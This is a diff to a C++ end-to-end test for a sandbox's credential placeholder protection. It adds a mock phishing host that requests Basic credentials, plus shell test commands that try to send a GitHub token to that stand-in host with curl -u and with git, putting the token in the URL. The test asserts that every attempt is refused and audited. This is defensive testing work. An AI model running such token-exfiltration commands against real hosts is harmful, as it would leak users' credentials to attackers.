@@ -285,6 +285,12 @@ struct World {
       collect = std::make_unique<HttpOrigin>(kCollectAddress, 443, cert);
     });
     origin->set_handler([this](const RecordedRequest& r) { return github.serve(r); });
+    // Asks for credentials, as a phishing host would: git then sends what its credential
+    // helper or the URL holds.
+    collect->set_handler([](const RecordedRequest&) {
+      return OriginReply::with_length(401, "who are you?\n",
+                                      {{"WWW-Authenticate", R"(Basic realm="collect")"}});
+    });
   }
 
   static std::string inject(const std::string& profile, const std::string& repo) {
@@ -533,7 +539,12 @@ TEST_F(CredentialsE2e, ThePlaceholderIsReplacedWhereBoundAndATripwireElsewhere) 
              // HTTP/1.1: request bodies over HTTP/2 are not scanned yet (credentials.md).
              "curl -sS -m 10 --http1.1 -o /dev/null -w '%{http_code}\\n' "
              "--data \"t=$GH_TOKEN\" https://collect.test/body; "
-             "curl -sS -m 10 -H \"X-Token: $GH_TOKEN\" https://collect.test/header");
+             "curl -sS -m 10 -H \"X-Token: $GH_TOKEN\" https://collect.test/header; echo; "
+             "curl -sS -m 10 -o /dev/null -w '%{http_code}\\n' -u \"x-access-token:$GH_TOKEN\" "
+             "https://collect.test/basic; "
+             "GIT_TERMINAL_PROMPT=0 git ls-remote "
+             "\"https://x-access-token:$GH_TOKEN@collect.test/acme/widgets.git\" 2>&1; "
+             "echo ls-remote=$?");
   ASSERT_EQ(r.exit_code, 0) << r.err;
   const std::string mine = placeholder(id("ph"));
   EXPECT_EQ(r.out.substr(0, r.out.find('\n')), mine);
@@ -548,12 +559,25 @@ TEST_F(CredentialsE2e, ThePlaceholderIsReplacedWhereBoundAndATripwireElsewhere) 
   ASSERT_FALSE(seen.empty());
   EXPECT_EQ(seen.back(), "Bearer " + token);
   for (const auto& auth : seen) EXPECT_EQ(auth.find(mine), std::string::npos);
-  // collect.test: not a request, not a byte of the placeholder.
-  EXPECT_EQ(world->collect->request_count(), 0u);
-  EXPECT_EQ(world->collect->raw_received().find("sgph_"), std::string::npos);
+  // Basic credentials holding it (curl -u; git with it in the URL, after collect.test's
+  // 401): refused too, and git prints sandgate's refusal as the remote's error.
+  EXPECT_NE(r.out.find("\n403\n"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("remote error: sandgate: SANDBOX_NETWORK_DENIED: collect.test is refused "
+                       "to sandbox " +
+                       id("ph") + " (placeholder_misuse, rule credentials.gh)"),
+            std::string::npos)
+      << r.out;
+  EXPECT_EQ(r.out.find("ls-remote=0"), std::string::npos) << r.out;
+  // collect.test: only git's first request, which carries no credential; not a byte of the
+  // placeholder, in any form.
+  EXPECT_EQ(world->collect->request_count(), 1u);
+  const std::string received = world->collect->raw_received();
+  EXPECT_EQ(received.find("sgph_"), std::string::npos) << received;
+  EXPECT_EQ(received.find(secrets::base64("x-access-token:" + mine)), std::string::npos);
+  EXPECT_EQ(received.find("Authorization"), std::string::npos) << received;
 
   const auto denied = audit("SANDBOX_NETWORK_DENIED");
-  ASSERT_EQ(denied.size(), 3u) << world->daemon->audit_text();
+  ASSERT_EQ(denied.size(), 5u) << world->daemon->audit_text();
   for (const auto& line : denied) {
     EXPECT_EQ(json_string(line, "event.reason"), "placeholder_misuse");
     EXPECT_EQ(json_string(line, "rule.name"), "credentials.gh");
